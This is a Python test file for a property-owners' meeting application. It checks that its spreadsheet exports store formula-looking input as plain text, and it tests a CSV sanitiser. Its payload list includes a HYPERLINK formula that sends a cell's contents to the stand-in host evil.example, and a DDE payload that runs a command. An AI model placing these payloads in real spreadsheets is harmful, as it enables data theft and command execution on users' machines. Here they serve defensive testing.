"""Formula injection (CSV/Excel injection): an owner's name, a premise number, a question or a staff
login typed as «=HYPERLINK(...)», «+1+1», «-2» or «@SUM(A1)» must come out of every .xlsx export as
a text cell holding exactly that text — never as a formula a spreadsheet program would run."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from sqlalchemy import select, update

from filemakers import make_table
from services.audit import audit_frame, audit_xlsx, record
from services.exports import csv_safe, xlsx_bytes
from services.meetings import MeetingData, QuestionData, create_meeting
from services.models import Delivery, OwnerRecord, Premise
from services.notify import delivery_register_xlsx, queue_notices
from services.registry import import_registry, registry_xlsx, rejected_rows_xlsx
from services.registry_parse import parse_registry
from services.results import activity_xlsx, decisions_list_xlsx, participants_xlsx, results_xlsx
from services.tally import live_tally
from services.voting import question_numbers, register_paper_decision

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")', "+1+1", "-2", "@SUM(A1)",
            "=1+1", "=cmd|' /C calc'!A0"]
SECRET = "test-secret"


def cells_of(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))  # formulas as written, not cached values
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_injection_safe(data: bytes, expected: list[str]) -> None:
    cells = cells_of(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells in the export: {formulas}"
    for c in cells:
        if isinstance(c.value, str) and c.value[:1] in "=+-@":
            assert c.data_type == "s", (c.coordinate, c.value, c.data_type)
    texts = [c.value for c in cells if c.data_type == "s"]
    for payload in expected:
        assert payload in texts, f"{payload!r} is not kept unchanged as a text cell; texts: {texts[:40]}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_bytes_writes_a_formula_looking_string_as_text(payload):
    data = xlsx_bytes([("Лист", ["Заголовок", payload], [[payload, 1, payload], ["обычный", payload]])])
    assert_injection_safe(data, [payload])
    cells = cells_of(data)
    assert sum(c.value == payload for c in cells) == 4  # header, and the three data cells


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Иванов", "Иванов"), ("", ""), ("1-2", "1-2"),
])
def test_csv_safe_neutralises_a_leading_formula_character(value, expected):
    assert csv_safe(value) == expected


@pytest.fixture
def hostile_meeting(session_factory):
    """A meeting whose every user-typed field is a formula: questions, owners, premises, addresses,
    decisions, deliveries and the journal."""
    today = dt.date.today()
    meeting_id = create_meeting(session_factory, data=MeetingData(
        address=PAYLOADS[0], initiator=PAYLOADS[1], start_date=today - dt.timedelta(days=20),
        end_date=today + dt.timedelta(days=10),
        questions=[QuestionData(p) for p in PAYLOADS],
    ))
    rows = [["Номер помещения", "Общая площадь", "ФИО собственника", "Доля", "Номер документа", "E-mail"]]
    rows += [[str(i), 40 + i, p, "1", p, f"o{i}@example.ru"] for i, p in enumerate(PAYLOADS, start=1)]
    import_registry(session_factory, meeting_id=meeting_id, data=make_table(rows, "csv"), filename="r.csv",
                    replace=True)
    with session_factory.begin() as s:
        owners = s.execute(select(OwnerRecord.id, OwnerRecord.premise_id, OwnerRecord.name)
                           .where(OwnerRecord.meeting_id == meeting_id)).all()
        for _oid, premise_id, name in owners:
            s.execute(update(Premise).where(Premise.id == premise_id).values(number=name[:50]))  # premise = payload (50: the column)
    ids = [o[0] for o in owners]
    with session_factory() as s:
        numbers = question_numbers(s, meeting_id)
    for oid in ids[:3]:
        register_paper_decision(session_factory, secret_key=SECRET, meeting_id=meeting_id, owner_id=oid,
                                received_on=today, answers={q: "for" for q in numbers})
    queue_notices(session_factory, meeting_id=meeting_id, owner_ids=ids, request_key="k", confirm_late=True)
    with session_factory.begin() as s:
        for oid, payload in zip(ids, PAYLOADS):
            s.execute(update(Delivery).where(Delivery.owner_id == oid).values(error=payload))
    for p in PAYLOADS:
        record(session_factory, actor=p, action="export", meeting_id=meeting_id, what=p)
    return meeting_id


def test_registry_export_keeps_names_premises_and_documents_as_text(session_factory, hostile_meeting):
    assert_injection_safe(registry_xlsx(session_factory, meeting_id=hostile_meeting), PAYLOADS)


def test_rejected_rows_export_keeps_the_file_cells_as_text():
    rows = [["Номер помещения", "Общая площадь", "ФИО собственника"]]
    rows += [[p, p, p] for p in PAYLOADS]  # every row refused: an area like «=1+1» is no area
    report = parse_registry(make_table(rows, "csv"), "r.csv")
    assert len(report.rejected_rows) == len(PAYLOADS)
    assert_injection_safe(rejected_rows_xlsx(report), PAYLOADS)


def test_delivery_register_keeps_names_premises_and_reasons_as_text(session_factory, hostile_meeting):
    assert_injection_safe(delivery_register_xlsx(session_factory, meeting_id=hostile_meeting), PAYLOADS)


def test_results_exports_keep_questions_and_names_as_text(session_factory, hostile_meeting):
    tally = live_tally(session_factory, meeting_id=hostile_meeting)
    assert_injection_safe(results_xlsx(tally), PAYLOADS)
    assert_injection_safe(activity_xlsx(session_factory, meeting_id=hostile_meeting, tally=tally), PAYLOADS)
    assert_injection_safe(participants_xlsx(session_factory, meeting_id=hostile_meeting), PAYLOADS[:3])
    assert_injection_safe(decisions_list_xlsx(session_factory, meeting_id=hostile_meeting), PAYLOADS[:3])


def test_audit_export_keeps_actors_and_details_as_text(session_factory, hostile_meeting):
    frame = audit_frame(session_factory, meeting_id=hostile_meeting)
    assert_injection_safe(audit_xlsx(frame), PAYLOADS)
